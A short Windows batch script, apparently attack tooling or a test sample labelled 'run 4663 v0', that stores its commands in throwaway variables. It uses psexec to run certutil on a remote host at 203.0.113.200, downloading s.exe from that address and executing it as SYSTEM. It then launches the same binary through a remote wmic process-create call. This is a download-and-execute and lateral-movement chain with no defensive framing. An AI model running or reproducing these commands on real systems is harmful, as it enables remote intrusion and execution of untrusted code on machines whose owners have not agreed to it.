REM run 4663 v0
@echo off
set kykk=psexec.exe \\203.0.113.200 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
call %kykk%
@echo off
set ilum=wmic /node:203.0.113.200 process call create "cmd /c C:\s.exe"
call %ilum%
